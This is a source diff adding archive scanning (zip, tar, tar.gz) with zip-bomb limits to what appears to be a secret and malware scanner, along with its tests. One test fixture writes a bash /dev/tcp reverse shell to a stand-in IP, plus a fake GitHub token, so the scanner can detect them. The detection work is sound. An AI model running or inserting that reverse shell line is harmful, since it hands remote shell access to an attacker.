@@ -1,0 +1,210 @@
+//! Archives a contractor delivers (zip, tar, tar.gz): each member is scanned like a file,
+//! named `archive.zip!dir/file`, while the archive streams through memory.
+//!
+//! Limits keep a hostile archive from exhausting the machine: a member larger than the
+//! scanner's per-file limit is skipped (its size is read, never trusted), and an archive
+//! stops being read after [`MAX_MEMBERS`] members or [`MAX_EXPANDED`] bytes expanded (a zip
+//! bomb), which the report counts as skipped. Archives inside archives are scanned as plain
+//! files, not opened.
+
+use std::fs::File;
+use std::io::{BufReader, Read};
+use std::path::Path;
+
+use crate::scan::{Report, Scanner, is_binary};
+
+/// Members read from one archive at most.
+pub(crate) const MAX_MEMBERS: usize = 100_000;
+/// Bytes expanded from one archive at most.
+pub(crate) const MAX_EXPANDED: u64 = 4 * 1024 * 1024 * 1024;
+
+/// The kind of archive a path names, by its extension.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Kind {
+    Zip,
+    Tar,
+    TarGz,
+}
+
+impl Kind {
+    pub(crate) fn of(path: &Path) -> Option<Kind> {
+        let name = path.file_name()?.to_str()?.to_ascii_lowercase();
+        if name.ends_with(".zip") || name.ends_with(".jar") || name.ends_with(".whl") {
+            Some(Kind::Zip)
+        } else if name.ends_with(".tar.gz") || name.ends_with(".tgz") || name.ends_with(".crate") {
+            Some(Kind::TarGz)
+        } else if name.ends_with(".tar") {
+            Some(Kind::Tar)
+        } else {
+            None
+        }
+    }
+}
+
+/// Reads one member (at most `limit` bytes; `None` when larger).
+fn read_member(reader: &mut dyn Read, limit: u64) -> std::io::Result<Option<Vec<u8>>> {
+    let mut data = Vec::new();
+    reader.take(limit + 1).read_to_end(&mut data)?;
+    Ok((data.len() as u64 <= limit).then_some(data))
+}
+
+impl Scanner {
+    /// Scans the members of the archive at `path` into `report`.
+    pub(crate) fn scan_archive(
+        &self,
+        path: &Path,
+        kind: Kind,
+        report: &mut Report,
+    ) -> std::io::Result<()> {
+        let name = path.to_string_lossy().into_owned();
+        let mut expanded = 0u64;
+        let mut members = 0usize;
+        let mut take = |member: String, reader: &mut dyn Read, report: &mut Report| {
+            members += 1;
+            if members > MAX_MEMBERS || expanded > MAX_EXPANDED {
+                report.skipped_large += 1;
+                return Ok::<bool, std::io::Error>(false);
+            }
+            match read_member(reader, self.max_file_size)? {
+                None => report.skipped_large += 1,
+                Some(data) if is_binary(&data) => {
+                    expanded += data.len() as u64;
+                    report.skipped_binary += 1;
+                }
+                Some(data) => {
+                    expanded += data.len() as u64;
+                    report.files_scanned += 1;
+                    report.bytes_scanned += data.len() as u64;
+                    report
+                        .findings
+                        .extend(self.scan_bytes(&format!("{name}!{member}"), &data));
+                }
+            }
+            Ok(true)
+        };
+        match kind {
+            Kind::Zip => {
+                let mut zip = zip::ZipArchive::new(BufReader::new(File::open(path)?))
+                    .map_err(std::io::Error::other)?;
+                for i in 0..zip.len() {
+                    let mut member = zip.by_index(i).map_err(std::io::Error::other)?;
+                    if !member.is_file() {
+                        continue;
+                    }
+                    let member_name = member.name().to_owned();
+                    if !take(member_name, &mut member, report)? {
+                        break;
+                    }
+                }
+            }
+            Kind::Tar | Kind::TarGz => {
+                let file = BufReader::new(File::open(path)?);
+                let reader: Box<dyn Read> = if kind == Kind::TarGz {
+                    Box::new(flate2::read::GzDecoder::new(file))
+                } else {
+                    Box::new(file)
+                };
+                let mut tar = tar::Archive::new(reader);
+                for entry in tar.entries()? {
+                    let mut entry = entry?;
+                    if !entry.header().entry_type().is_file() {
+                        continue;
+                    }
+                    let member_name = entry.path()?.to_string_lossy().into_owned();
+                    if !take(member_name, &mut entry, report)? {
+                        break;
+                    }
+                }
+            }
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write;
+
+    use crate::{RuleSet, Scanner};
+
+    const LEAK: &str = "GITHUB_TOKEN=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo\n";
+
+    #[test]
+    fn members_of_zip_and_tar_archives_are_scanned_by_name() {
+        let dir = tempfile::tempdir().unwrap();
+        // A zip with a leak in a nested file, a clean file and a binary one.
+        let zip_path = dir.path().join("delivery.zip");
+        let mut zip = zip::ZipWriter::new(std::fs::File::create(&zip_path).unwrap());
+        let options = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated);
+        zip.start_file("app/.env", options).unwrap();
+        zip.write_all(LEAK.as_bytes()).unwrap();
+        zip.start_file("app/README.md", options).unwrap();
+        zip.write_all(b"nothing here\n").unwrap();
+        zip.start_file("app/logo.png", options).unwrap();
+        zip.write_all(&[0x89, b'P', b'N', b'G', 0, 0, 1]).unwrap();
+        zip.finish().unwrap();
+        // A tar.gz with a reverse shell in a script.
+        let tgz_path = dir.path().join("release.tar.gz");
+        let gz = flate2::write::GzEncoder::new(
+            std::fs::File::create(&tgz_path).unwrap(),
+            flate2::Compression::default(),
+        );
+        let mut tar = tar::Builder::new(gz);
+        let script = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
+        let mut header = tar::Header::new_gnu();
+        header.set_size(script.len() as u64);
+        header.set_mode(0o755);
+        header.set_cksum();
+        tar.append_data(&mut header, "bin/start.sh", &script[..])
+            .unwrap();
+        tar.into_inner().unwrap().finish().unwrap();
+
+        let scanner = Scanner::new(RuleSet::builtin().unwrap());
+        let report = scanner.scan_paths(&[dir.path().to_path_buf()]).unwrap();
+        let found: Vec<(String, String)> = report
+            .findings
+            .iter()
+            .map(|f| {
+                (
+                    f.path.rsplit('/').next().unwrap().to_owned(),
+                    f.rule.clone(),
+                )
+            })
+            .collect();
+        assert!(
+            report
+                .findings
+                .iter()
+                .any(|f| f.path.ends_with("release.tar.gz!bin/start.sh")
+                    && f.rule == "reverse-shell-dev-tcp"
+                    && f.line == 2),
+            "{found:?}"
+        );
+        assert!(
+            report
+                .findings
+                .iter()
+                .any(|f| f.path.ends_with("delivery.zip!app/.env") && f.line == 1)
+        );
+        assert_eq!(report.files_scanned, 3);
+        assert_eq!(report.skipped_binary, 1);
+    }
+
+    #[test]
+    fn oversized_members_are_skipped_not_read_whole() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("big.tar");
+        let mut tar = tar::Builder::new(std::fs::File::create(&path).unwrap());
+        let big = vec![b'a'; 4096];
+        let mut header = tar::Header::new_gnu();
+        header.set_size(big.len() as u64);
+        header.set_cksum();
+        tar.append_data(&mut header, "big.txt", &big[..]).unwrap();
+        tar.finish().unwrap();
+        let mut scanner = Scanner::new(RuleSet::builtin().unwrap());
+        scanner.max_file_size = 1024;
+        let report = scanner.scan_paths(&[path]).unwrap();
+        assert_eq!((report.files_scanned, report.skipped_large), (0, 1));
+    }
+}
